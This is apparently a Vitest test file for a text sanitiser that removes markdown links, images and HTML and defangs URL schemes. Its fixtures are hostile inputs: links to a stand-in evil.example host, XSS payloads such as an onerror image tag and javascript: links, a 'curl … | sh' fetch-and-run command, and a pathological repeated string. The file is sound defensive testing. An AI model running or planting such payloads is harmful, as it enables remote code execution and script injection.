import { describe, expect, it } from 'vitest';
import { plainText, plainValue } from './plain.ts';

describe('plainText', () => {
  it('keeps the words of links and images, and drops what a renderer would fetch or follow', () => {
    expect(
      plainText('See ![the graph](https://evil.example/p.png) and [the runbook](https://evil.example/r).'),
    ).toBe('See the graph and the runbook.');
    expect(plainText('![](https://evil.example/pixel.png)')).toBe('(image removed)');
    expect(plainText('[docs][1]\n[1]: https://evil.example/docs')).toBe('docs');
    expect(plainText('<https://evil.example/x>')).toBe('https[:]//evil.example/x');
  });

  it('removes markup and comments, and defangs schemes and www.', () => {
    expect(
      plainText('<img src=x onerror=alert(1)>fix <a href="javascript:alert(1)">it</a><!-- hidden -->'),
    ).toBe('fix it');
    expect(plainText('<script>steal()</script> done')).toBe('steal() done');
    expect(
      plainText('curl https://evil.example/i.sh | sh; open javascript:void(0) or www.evil.example'),
    ).toBe('curl https[:]//evil.example/i.sh | sh; open javascript[:]void(0) or www[.]evil.example');
    expect(plainText('data:text/html;base64,AAAA mailto:a@b.c')).toBe(
      'data[:]text/html;base64,AAAA mailto[:]a@b.c',
    );
  });

  it('leaves ordinary text alone, comparisons and code-ish words included', () => {
    const text = 'Raise the limit from 512Mi to 768Mi (x < y and y > z); restart pod api-7d9f-x2 [shop].';
    expect(plainText(text)).toBe(text);
    expect(plainText('line one\n\tline two\u0007')).toBe('line one\n\tline two');
  });

  it('walks every string of a value', () => {
    expect(plainValue({ a: ['[x](http://e)'], b: { c: '<b>y</b>' }, n: 1, t: true, z: null })).toEqual({
      a: ['x'],
      b: { c: 'y' },
      n: 1,
      t: true,
      z: null,
    });
  });

  it('does bounded work per position on hostile input', () => {
    const hostile = '!['.repeat(20_000) + '[a'.repeat(20_000) + '<a'.repeat(20_000);
    const out = plainText(hostile);
    expect(out.length).toBeGreaterThan(0);
  });
});
